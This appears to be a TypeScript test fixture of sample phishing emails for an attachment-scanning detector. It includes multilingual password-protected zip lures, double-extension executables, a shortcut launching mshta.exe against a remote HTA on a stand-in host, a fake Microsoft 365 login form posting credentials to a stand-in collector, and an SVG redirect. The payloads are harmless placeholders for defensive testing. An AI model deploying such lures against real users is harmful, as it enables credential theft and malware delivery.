import { makePe } from '../../../analyzers/src/executable/program-samples.ts'
import type { Entry } from '../entry.ts'
import { lures } from './lure-letters.ts'
import type { Letter } from './mime.ts'
import { shellLink } from './shell-link.ts'
import { zip } from './zip.ts'

const program = makePe()
const packed = (password: string) =>
  zip({ 'document.js': 'WScript.Echo(1)', 'a.txt': 'x'.repeat(99) }, { password })
const told = (name: string, text: string, password: string): readonly [string, Letter] => [
  name,
  {
    from: 'Offers <offers@trade.example.net>',
    subject: 'Document',
    text,
    files: [{ name: 'document.zip', content: packed(password) }],
  },
]
const archive = /^(?:archive|mail|script|file)\./

export const attachmentLures: Entry[] = [
  ...lures('password told in the mail', archive, [
    told('english', 'Please see the attached file.\nThe password is: 7741-AB', '7741-AB'),
    told('german', 'Anbei das Dokument.\nDas Passwort lautet 8812xy', '8812xy'),
    told(
      'french',
      'Veuillez trouver le document ci-joint.\nLe mot de passe du fichier est : doc2026',
      'doc2026',
    ),
    told('spanish', 'Adjunto el documento.\nLa contraseña del archivo es 4471zz', '4471zz'),
    told(
      'italian',
      'In allegato il documento.\nLa password per aprire il file è: 9981it',
      '9981it',
    ),
    told('italian second', 'In allegato il documento.\nParola chiave: giugno26', 'giugno26'),
    told('portuguese', 'Segue em anexo o documento.\nA senha do arquivo é 5512pt', '5512pt'),
    told('dutch', 'Zie de bijlage.\nHet wachtwoord is: nl7788', 'nl7788'),
    told('polish', 'W załączniku dokument.\nHasło do pliku: pl3344', 'pl3344'),
    told('turkish', 'Belge ektedir.\nŞifre: tr9090', 'tr9090'),
    told('russian', 'Документ во вложении.\nПароль: ru4455', 'ru4455'),
    told('swedish', 'Se bifogad fil.\nLösenordet är sv6677', 'sv6677'),
  ]),
  ...lures(
    'attachment that runs',
    /^(?:mail|archive|file|script|shortcut|page|onenote|executable)\./,
    [
      [
        'double',
        {
          from: 'Sales <sales@trade.example.net>',
          subject: 'Order',
          text: 'See order.',
          files: [{ name: 'Order.pdf.exe', content: program }],
        },
      ],
      [
        'screen saver',
        {
          from: 'HR <hr@trade.example.net>',
          subject: 'Photos',
          text: 'Party.',
          files: [{ name: 'photos.scr', content: program }],
        },
      ],
      [
        'script in zip',
        {
          from: 'Post <info@parcel.example.net>',
          subject: 'Parcel',
          text: 'Your label.',
          files: [{ name: 'label.zip', content: zip({ 'label.pdf.vbs': 'MsgBox 1' }) }],
        },
      ],
      [
        'shortcut in zip',
        {
          from: 'Legal <legal@trade.example.net>',
          subject: 'Claim',
          text: 'Copy of claim.',
          files: [
            {
              name: 'claim.zip',
              content: zip({
                'claim.pdf.lnk': shellLink({
                  target: 'C:\\Windows\\System32\\mshta.exe',
                  args: 'http://files.example.net/a.hta',
                }),
              }),
            },
          ],
        },
      ],
      [
        'page',
        {
          from: 'Voicemail <vm@pbx.example.net>',
          subject: 'New voice message',
          text: '00:32',
          files: [
            {
              name: 'VM_0032.html',
              content:
                '<html><title>Microsoft 365</title><form action="https://collect.example.net/p" method="post"><input type="email" value="jane.doe@corp.example"><input type="password"></form></html>',
            },
          ],
        },
      ],
      [
        'svg',
        {
          from: 'Scan <scan@printer.example.net>',
          subject: 'Scan',
          text: 'Scanned.',
          files: [
            {
              name: 'scan.svg',
              content:
                '<svg xmlns="http://www.w3.org/2000/svg"><script>location.href=atob("aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUubmV0Lw==")</script></svg>',
            },
          ],
        },
      ],
      [
        'hta',
        {
          from: 'Tax <tax@office.example.net>',
          subject: 'Refund',
          text: 'Refund form.',
          files: [
            {
              name: 'refund.hta',
              content:
                '<html><hta:application/><script language="vbscript">CreateObject("WScript.Shell").Run "calc"</script></html>',
            },
          ],
        },
      ],
    ],
  ),
]
